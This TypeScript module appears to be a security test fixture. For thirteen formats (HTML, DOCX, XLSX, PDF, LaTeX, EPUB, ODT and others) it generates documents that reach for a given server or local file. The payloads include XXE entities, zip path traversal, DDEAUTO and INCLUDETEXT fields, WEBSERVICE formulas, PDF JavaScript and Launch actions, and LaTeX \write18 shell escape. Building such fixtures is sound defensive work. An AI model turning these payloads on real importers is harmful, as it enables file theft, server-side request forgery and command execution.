import { utils, write } from '@e965/xlsx'
import { strToU8, unzipSync, type Zippable, zipSync } from 'fflate'
import { buildDocx, paragraph, run } from './buildDocx.ts'
import { buildOdt } from './buildOdt.ts'
import { buildPdf } from './buildPdf.ts'

/** What a document would reach for: a server, and a file that is none of its own, by its path and as an address. */
export type Reach = { server: string; path: string; file: string }

const lines = ['1. Which is it?', 'A. this', 'B. that', 'Answer: A']
const entity = ({ file, server }: Reach, root: string) =>
  `<!DOCTYPE ${root} [<!ENTITY secret SYSTEM "${file}"><!ENTITY % more SYSTEM "${server}/more.dtd">%more;]>`

const html = ({ server, file }: Reach, before = '') => `${before}<html><head><base href="${server}/">
<meta http-equiv="refresh" content="0;url=${server}/refresh"><link rel="stylesheet" href="${server}/a.css"><link rel="import" href="${file}">
<style>@import url("${server}/b.css"); p { background: url(${server}/c.png) }</style><script src="${server}/d.js"></script>
<script>fetch('${server}/e')</script></head><body background="${server}/f.png"><iframe src="${file}"></iframe>
<object data="${file}"></object><embed src="${server}/g.swf"><img src="${server}/h.png" onerror="fetch('${server}/i')"><img src="${file}">
<svg><image href="${server}/j.png"/><use href="${server}/k.svg#a"/></svg><video poster="${server}/l.png" src="${server}/m.mp4"></video>
${lines.map((line) => `<p>${line}</p>`).join('')}<img srcset="${server}/n.png 2x" src="//${new URL(server).host}/o.png"></body></html>`

const fieldOf = (code: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`

const picture = (id: string) =>
  `<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="${id}" r:embed="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`

/** Its parts lie elsewhere: pictures, a template, a chunk of text, what a field asks for, and parts with ways out of the package. */
function docx({ server, file, path }: Reach): Uint8Array {
  const relationships = [
    { id: 'p1', type: 'image', target: `${server}/a.png" TargetMode="External` },
    { id: 'p2', type: 'image', target: `${file}" TargetMode="External` },
    { id: 'p3', type: 'image', target: `../../../../../../../../..${path}` },
    { id: 'p4', type: 'attachedTemplate', target: `${server}/t.dotm" TargetMode="External` },
    { id: 'p5', type: 'aFChunk', target: `${file}" TargetMode="External` },
    { id: 'numbering', type: 'numbering', target: `${server}/numbering.xml" TargetMode="External` },
    { id: 'styles', type: 'styles', target: `../../../../../../..${path}` },
  ]
  const body = `${['p1', 'p2', 'p3'].map(picture).join('')}<w:altChunk r:id="p5"/>${paragraph(
    fieldOf(`INCLUDEPICTURE "${server}/b.png" \\d`) +
      fieldOf(`INCLUDETEXT "${path}"`) +
      fieldOf(`DDEAUTO "${server}" x y`),
  )}${lines.map((line) => paragraph(run(line))).join('')}`
  return buildDocx({
    body,
    relationships,
    parts: { '../../../../../../../../tmp/evil.txt': 'evil', '/etc/evil': 'evil' },
  })
}

/** The same package with other text in one of its parts. */
function withPart(bytes: Uint8Array, part: string, edit: (text: string) => string): Uint8Array {
  const parts: Zippable = unzipSync(bytes)
  const text = new TextDecoder().decode(parts[part] as Uint8Array)
  return zipSync({ ...parts, [part]: strToU8(edit(text)) })
}

/** Before the root element; what names the entity stands in the first text. */
const withEntity = (bytes: Uint8Array, part: string, reach: Reach, before: string) =>
  withPart(bytes, part, (text) => {
    const root = /<([\w:]+)[\s>]/.exec(text.replace(/<\?.*?\?>/, ''))?.[1] ?? 'x'
    const declared = text.replace(/^(<\?.*?\?>)?/, (head) => `${head}${entity(reach, root)}`)
    return declared.replace(before, `${before}&secret;`)
  })

function xlsx(reach: Reach): Uint8Array {
  const sheet = utils.aoa_to_sheet([
    ['Question', 'A', 'B', 'Answer'],
    ['Which is it?', 'this', 'that', 'A'],
  ])
  sheet.E2 = { t: 'n', f: `WEBSERVICE("${reach.server}/w")`, v: 1 }
  sheet.F2 = { t: 'n', f: `'${reach.path}'!A1`, v: 1, l: { Target: `${reach.server}/l` } }
  const book = new Uint8Array(write({ SheetNames: ['S'], Sheets: { S: sheet } }, { type: 'buffer', bookType: 'xlsx' }))
  return withEntity(book, 'xl/worksheets/sheet1.xml', reach, '<t>')
}

function pdf({ server, path }: Reach): Uint8Array {
  const text = Buffer.from(buildPdf([lines.map((line, at) => ({ x: 60, y: 100 + 20 * at, text: line }))])).toString(
    'latin1',
  )
  const actions = `/OpenAction << /S /URI /URI (${server}/open) /Next [ << /S /JavaScript /JS (app.launchURL\\("${server}/js"\\)) >>
    << /S /Launch /F (${path}) >> << /S /GoToR /F << /FS /URL /F (${server}/gotor.pdf) >> /D [0 /Fit] >>
    << /S /SubmitForm /F << /FS /URL /F (${server}/submit) >> >> << /S /ImportData /F (${path}) >> ] >> `
  return Buffer.from(text.replace('/Type /Catalog ', `/Type /Catalog ${actions}`), 'latin1')
}

const latex = ({ path, server }: Reach) => String.raw`\documentclass{article}\usepackage{${path}}
\input{${path}}\include{${path}}\verbatiminput{${path}}\lstinputlisting{${path}}\includegraphics{${server}/a.png}
\newread\f\openin\f=${path}\read\f to\x\write18{touch ${path}.written}\immediate\openout\f=${path}.written
\begin{document}\begin{enumerate}\item Which is it?\begin{enumerate}\item this\item that\end{enumerate}\end{enumerate}\end{document}`

const rtf = ({ path, server }: Reach) => {
  const slashed = path.replaceAll('\\', '/')
  return `{\\rtf1\\ansi{\\*\\template ${server}/t.dot}{\\field{\\*\\fldinst INCLUDEPICTURE "${server}/a.png"}}{\\field{\\*\\fldinst INCLUDETEXT "${slashed}"}}${lines.map((line) => `${line}\\par `).join('')}}`
}

const moodle = (reach: Reach) =>
  `<?xml version="1.0"?>${entity(reach, 'quiz')}<quiz><question type="truefalse"><questiontext format="html"><text>Is it? &secret; &lt;img src="${reach.server}/a.png"&gt;</text></questiontext><answer fraction="100"><text>true</text></answer></question></quiz>`

const markdown = ({ server, file, path }: Reach) =>
  `![a](${server}/a.png) ![b](${file}) ![c](${path}) <img src="${server}/b.png">\n\n${lines.join('\n')}\n`

const json = ({ server, file }: Reach) =>
  JSON.stringify({
    $schema: `${server}/s.json`,
    $ref: file,
    questions: [{ question: 'Which is it?', image: `${server}/q.png`, options: ['this', 'that'], answer: 0 }],
  })

const mht = (reach: Reach) =>
  `MIME-Version: 1.0\nContent-Type: multipart/related; boundary="b"\n\n--b\nContent-Type: text/html\nContent-Location: ${reach.server}/\n\n${html(reach)}\n--b\nContent-Type: message/external-body; access-type=URL; URL="${reach.server}/x"\n\n--b--\n`

const epub = (reach: Reach) =>
  zipSync({
    mimetype: strToU8('application/epub+zip'),
    'META-INF/container.xml': strToU8('<container><rootfiles><rootfile full-path="a.opf"/></rootfiles></container>'),
    'a.opf': strToU8(
      `<package><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/><item id="b" href="${reach.server}/b.xhtml" media-type="application/xhtml+xml"/><item id="c" href="../../../../../../..${reach.path}" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/><itemref idref="b"/><itemref idref="c"/></spine></package>`,
    ),
    'a.xhtml': strToU8(
      html(reach, `<?xml version="1.0"?>${entity(reach, 'html')}`).replace('Which is it?', 'Which is it? &secret;'),
    ),
  })

const odt = (reach: Reach) =>
  withEntity(
    buildOdt(
      `<text:p><draw:frame><draw:image xlink:href="${reach.server}/a.png"/><draw:object xlink:href="${reach.file}"/></draw:frame></text:p><text:section text:name="s"><text:section-source xlink:href="${reach.file}"/></text:section>${lines.map((line) => `<text:p>${line}</text:p>`).join('')}`,
    ),
    'content.xml',
    reach,
    '<text:p>1. ',
  )

/** A document of each kind that names what is not in it, in the ways of its format. */
export const reachingDocuments: readonly [name: string, make: (reach: Reach) => string | Uint8Array][] = [
  ['a.html', html],
  ['a.mht', mht],
  ['a.md', markdown],
  ['a.tex', latex],
  ['a.rtf', rtf],
  ['a.json', json],
  ['a.xml', moodle],
  ['a.docx', docx],
  ['b.docx', (reach) => withEntity(docx(reach), 'word/document.xml', reach, '1. ')],
  ['a.xlsx', xlsx],
  ['a.pdf', pdf],
  ['a.epub', epub],
  ['a.odt', odt],
]
